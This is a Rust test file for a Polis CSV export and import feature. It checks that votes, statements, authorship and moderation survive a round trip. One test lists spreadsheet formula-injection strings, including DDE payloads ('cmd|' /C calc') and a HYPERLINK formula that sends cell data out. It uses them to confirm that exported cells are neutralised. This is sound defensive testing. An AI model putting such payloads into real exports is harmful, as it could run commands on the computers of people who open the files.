//! What is written as a Polis set reads back, and is safe to open.

use crate::fixture::{Latest, findings, latest, naive_csv};
use canvass_domain::{
    Arrival, ArrivedVia, Assurance, Event, Fact, Instrument, Millis, Origin, ParticipantId, Provenance, Seq, Statement,
    StatementId, StatementState, Subject, Transcript, Vote,
};
use canvass_formats::{
    made,
    polis::{self, read_folder},
};
use insta::assert_snapshot;
use proptest::prelude::*;
use std::fs;

pub const START_MS: Millis = 1_736_240_400_123;

pub fn transcript(facts: impl IntoIterator<Item = Fact>, n_participants: u32, n_statements: u32) -> Transcript {
    let arrival = |n| Arrival {
        channel: None,
        participant: ParticipantId(n),
        assurance: Assurance::Anonymous,
        via: ArrivedVia::Direct,
        external_id: None,
        published_group: None,
        marks: canvass_domain::ReaderMarks::NONE,
        at_ms: START_MS,
    };
    let statement = |n| Statement {
        id: StatementId(n),
        text: Some(format!("Statement {n}, with \"quotes\"\nand a second line")),
        origin: Origin::Organiser,
        author: None,
        state: StatementState::Accepted,
        reason: None,
        rule: None,
        decided_here: true,
        added_ms: START_MS,
    };
    let statements: Vec<Statement> = (1..=n_statements).map(statement).collect();
    let added = statements.iter().map(|statement| Fact::StatementAdded {
        statement: statement.id,
        origin: statement.origin,
        state: statement.state,
    });
    let facts: Vec<Fact> = [Fact::Opened].into_iter().chain(added).chain(facts).collect();
    Transcript {
        provenance: Provenance::Synthetic,
        note: Some("Made by a generator.\nNobody answered.".to_owned()),
        instrument: Instrument {
            title: "A title, \"quoted\"".to_owned(),
            language: "en".to_owned(),
            ..Instrument::default()
        },
        arrivals: (1..=n_participants).map(arrival).collect(),
        statements,
        declared: Vec::new(),
        taken_back: Vec::new(),
        events: (1..)
            .zip(facts)
            .map(|(seq, fact)| Event { seq: Seq(seq), at_ms: START_MS + 400 * (seq as Millis), fact })
            .collect(),
        comments: Vec::new(),
        reports: Vec::new(),
        showings: Vec::new(),
        earlier: Vec::new(),
    }
}

pub fn vote(participant: u32, statement: u32, vote: Vote) -> Fact {
    let (participant, statement) = (ParticipantId(participant), StatementId(statement));
    Fact::VoteCast { participant, statement, vote, version: 1 }
}

/// Written as a Polis set and read back.
fn there_and_back(transcript: &Transcript) -> polis::PolisImport {
    let folder = tempfile::tempdir().unwrap();
    polis::write_folder(folder.path(), transcript, None).unwrap();
    read_folder(folder.path(), &mut |_| ()).unwrap()
}

fn without(latest: Latest, participant: u32) -> Latest {
    latest.into_iter().filter(|((who, _), _)| *who != participant).collect()
}

fn fact() -> impl Strategy<Value = Fact> {
    let (participant, statement) = ((1..6_u32).prop_map(ParticipantId), (1..5_u32).prop_map(StatementId));
    (participant, statement, 0..8_u8).prop_map(|(participant, statement, kind)| match kind {
        0 => Fact::VoteWithdrawn { participant, statement },
        1 => Fact::StatementSkipped { participant, statement, version: 1 },
        2 | 3 => vote(participant.0, statement.0, Vote::Unsure),
        4 | 5 => vote(participant.0, statement.0, Vote::Disagree),
        _ => vote(participant.0, statement.0, Vote::Agree),
    })
}

proptest! {
    #[test]
    fn latest_votes_survive_a_polis_set(facts in proptest::collection::vec(fact(), 0..60)) {
        let transcript = transcript(facts, 6, 5);
        let import = there_and_back(&transcript);
        prop_assert_eq!(latest(&import.transcript), latest(&transcript));
        prop_assert_eq!(import.transcript.instrument.title, transcript.instrument.title);
        for (read, written) in import.transcript.statements.iter().zip(&transcript.statements) {
            prop_assert_eq!((read.id, &read.text, read.state), (written.id, &written.text, written.state));
        }
    }
}

#[test]
fn what_a_statement_is_about_and_whose_it_is_survives_a_polis_set() {
    let mark = |statement, subject| Fact::StatementMarked { statement: StatementId(statement), subject };
    let facts = [
        mark(1, Subject::Readers),
        mark(2, Subject::Readers),
        vote(1, 1, Vote::Agree),
        vote(1, 2, Vote::Agree),
        mark(2, Subject::Topic),
    ];
    let mut transcript = transcript(facts, 2, 3);
    (transcript.statements[2].origin, transcript.statements[2].author) = (Origin::Participant, Some(ParticipantId(2)));
    let folder = tempfile::tempdir().unwrap();
    polis::write_folder(folder.path(), &transcript, None).unwrap();
    let written = naive_csv(&fs::read_to_string(folder.path().join("comments.csv")).unwrap());
    let column = |name: &str| written[0].iter().position(|column| column == name).unwrap();
    let flags = |row: &[String]| [column("is-meta"), column("is-seed")].map(|column| row[column].clone());
    let flags: Vec<[String; 2]> = written[1..].iter().map(|row| flags(row)).collect();
    assert_eq!(flags, [["true", "true"], ["false", "true"], ["false", "false"]]);
    let import = read_folder(folder.path(), &mut |_| ()).unwrap();
    let marks = import.transcript.events.iter().filter(|event| matches!(event.fact, Fact::StatementMarked { .. }));
    assert_eq!(marks.map(|event| event.fact).collect::<Vec<_>>(), [mark(1, Subject::Readers)]);
    let authors = |transcript: &Transcript| {
        transcript.statements.iter().map(|statement| (statement.origin, statement.author)).collect::<Vec<_>>()
    };
    assert_eq!(authors(&import.transcript), authors(&transcript));
}

#[test]
fn going_back_and_forth_within_one_second_ends_where_it_ended() {
    let facts = [Vote::Agree, Vote::Disagree, Vote::Agree].map(|answer| vote(1, 1, answer));
    let mut transcript = transcript(facts, 1, 1);
    transcript.events.iter_mut().for_each(|event| event.at_ms = START_MS);
    assert_eq!(latest(&there_and_back(&transcript).transcript), latest(&transcript));
}

#[test]
fn who_counts_no_longer_is_not_written() {
    let banned = Fact::ParticipantBanned { participant: ParticipantId(2) };
    let transcript = transcript([vote(1, 1, Vote::Agree), vote(2, 1, Vote::Agree), banned], 2, 1);
    assert_eq!(latest(&there_and_back(&transcript).transcript), without(latest(&transcript), 2));
}

#[test]
fn a_polis_set_as_written() {
    let facts =
        [vote(1, 1, Vote::Agree), vote(2, 1, Vote::Unsure), vote(1, 1, Vote::Disagree), vote(1, 2, Vote::Agree)];
    let mut transcript = transcript(facts, 3, 2);
    transcript.arrivals[0].external_id = Some("known elsewhere by this".to_owned());
    transcript.statements[1].author = Some(ParticipantId(1));
    let folder = tempfile::tempdir().unwrap();
    polis::write_folder(folder.path(), &transcript, None).unwrap();
    let mut all = String::new();
    for name in ["summary.csv", "comments.csv", "votes.csv", "participant-votes.csv", "comment-groups.csv"] {
        all.push_str(&format!("== {name}\n{}", fs::read_to_string(folder.path().join(name)).unwrap()));
    }
    assert_snapshot!(all, @r#"
    == summary.csv
    topic,"A title, ""quoted"""
    url,
    voters,2
    voters-in-conv,2
    commenters,2
    comments,2
    groups,0
    conversation-description,""
    provenance,synthetic
    == comments.csv
    timestamp,datetime,comment-id,author-id,agrees,disagrees,moderated,is-meta,is-seed,comment-body
    1736240400,2025-01-07T09:00:00Z,1,0,1,1,1,false,true,"Statement 1, with ""quotes""
    and a second line"
    1736240400,2025-01-07T09:00:00Z,2,1,1,0,1,false,true,"Statement 2, with ""quotes""
    and a second line"
    == votes.csv
    timestamp,datetime,comment-id,voter-id,vote
    1736240401,2025-01-07T09:00:01Z,1,1,1
    1736240402,2025-01-07T09:00:02Z,1,1,-1
    1736240402,2025-01-07T09:00:02Z,1,2,0
    1736240402,2025-01-07T09:00:02Z,2,1,1
    == participant-votes.csv
    participant,group-id,n-comments,n-votes,n-agree,n-disagree,1,2
    1,,1,2,1,1,-1,1
    2,,0,1,0,0,0,
    == comment-groups.csv
    comment-id,comment,total-votes,total-agrees,total-disagrees,total-passes
    1,"Statement 1, with ""quotes""
    and a second line",2,0,1,1
    2,"Statement 2, with ""quotes""
    and a second line",1,1,0,0
    "#);
}

#[test]
fn words_that_the_desk_declined_stay_inside() {
    let mut transcript = transcript([vote(1, 1, Vote::Agree)], 1, 1);
    transcript.statements[0].state = StatementState::Declined;
    let import = there_and_back(&transcript);
    assert_eq!(import.transcript.statements[0].text, None);
    assert_eq!(latest(&import.transcript), latest(&transcript));
}

#[test]
fn words_that_wait_stay_inside() {
    let mut transcript = transcript([vote(1, 1, Vote::Agree), vote(1, 2, Vote::Agree)], 1, 3);
    transcript.statements[1].state = StatementState::Held;
    transcript.statements[2].state = StatementState::Held;
    let import = there_and_back(&transcript).transcript;
    let written: Vec<_> =
        import.statements.iter().map(|statement| (statement.id.0, statement.text.is_some())).collect();
    assert_eq!(written, [(1, true), (2, false)], "what waits goes without words, and only if it has votes");
    assert_eq!(latest(&import), latest(&transcript));
}

/// The organiser's number is one that nobody has, not even somebody of whom only the log still tells.
#[test]
fn the_organiser_is_never_taken_for_somebody_erased() {
    let erased = Fact::ParticipantErased { participant: ParticipantId(0) };
    let mut transcript = transcript([vote(0, 1, Vote::Agree), erased], 2, 1);
    transcript.arrivals.retain(|arrival| arrival.participant.0 != 0);
    let folder = tempfile::tempdir().unwrap();
    polis::write_folder(folder.path(), &transcript, None).unwrap();
    let written = naive_csv(&fs::read_to_string(folder.path().join("comments.csv")).unwrap());
    assert_eq!((written[0][3].as_str(), written[1][3].as_str()), ("author-id", "3"));
    let import = there_and_back(&transcript).transcript;
    assert_eq!((import.statements[0].author, import.statements[0].origin), (None, Origin::Organiser));
    assert_eq!(latest(&import), latest(&transcript));
}

#[test]
fn votes_without_a_date_have_none_afterwards() {
    let mut transcript = transcript([vote(1, 1, Vote::Agree), vote(2, 2, Vote::Unsure)], 2, 2);
    let is_vote = |event: &&mut Event| matches!(event.fact, Fact::VoteCast { .. });
    transcript.events.iter_mut().filter(is_vote).for_each(|event| event.at_ms = 0);
    let folder = tempfile::tempdir().unwrap();
    polis::write_folder(folder.path(), &transcript, None).unwrap();
    let votes = fs::read_to_string(folder.path().join("votes.csv")).unwrap();
    assert_eq!(votes, "timestamp,datetime,comment-id,voter-id,vote\n0,,1,1,1\n0,,2,2,0\n", "no date is made up");
    let import = read_folder(folder.path(), &mut |_| ()).unwrap();
    assert_snapshot!(findings(&import), @"The times in votes.csv are all 0: when votes were cast is not known, and they have no dates here.");
    assert_snapshot!(import.transcript.note.unwrap(), @"Imported from a Polis export. When the votes were cast is not recorded.");
    let dated = |event: &Event| matches!(event.fact, Fact::VoteCast { .. }) && event.at_ms != 0;
    assert!(!import.transcript.events.iter().any(dated));
    assert!(import.transcript.statements.iter().all(|statement| statement.added_ms == START_MS / 1000 * 1000));
}

const NASTY: [&str; 8] = [
    "=HYPERLINK(\"https://example.org/?\"&A1,\"click\")",
    "+1 for the plan",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=quoted already",
    "'Tis plain",
];

/// Every cell of every table that is no number begins with something harmless; and every text comes back.
#[test]
fn what_a_spreadsheet_takes_for_a_formula_is_neutralised_and_comes_back() {
    let n = NASTY.len() as u32;
    let mut transcript = transcript((1..=n).map(|statement| vote(1, statement, Vote::Disagree)), 1, n);
    for (statement, text) in transcript.statements.iter_mut().zip(NASTY) {
        statement.text = Some(text.to_owned());
    }
    transcript.instrument.title = "=cmd()".to_owned();
    transcript.instrument.background = "@here\nand on".to_owned();
    let folder = tempfile::tempdir().unwrap();
    polis::write_folder(folder.path(), &transcript, None).unwrap();
    for file in &made::read_mark(folder.path()).unwrap().files {
        let text = fs::read_to_string(folder.path().join(file)).unwrap();
        for row in naive_csv(&text) {
            for cell in row.iter().filter(|cell| cell.parse::<i64>().is_err()) {
                assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{file}: {cell}");
            }
        }
    }
    let import = there_and_back(&transcript).transcript;
    let texts: Vec<_> = import.statements.iter().map(|statement| statement.text.as_deref().unwrap()).collect();
    assert_eq!(texts, NASTY);
    assert_eq!((import.instrument.title.as_str(), import.instrument.background.as_str()), ("=cmd()", "@here\nand on"));
    assert_eq!(latest(&import), latest(&transcript));
}

/// An apostrophe that somebody else wrote is theirs.
#[test]
fn only_our_own_apostrophes_are_taken_off() {
    let mut transcript = transcript([vote(1, 1, Vote::Agree)], 1, 1);
    transcript.statements[0].text = Some("=1".to_owned());
    let folder = tempfile::tempdir().unwrap();
    polis::write_folder(folder.path(), &transcript, None).unwrap();
    fs::remove_file(folder.path().join(made::MARK)).unwrap();
    let import = read_folder(folder.path(), &mut |_| ()).unwrap().transcript;
    assert_eq!(import.statements[0].text.as_deref(), Some("'=1"));
}
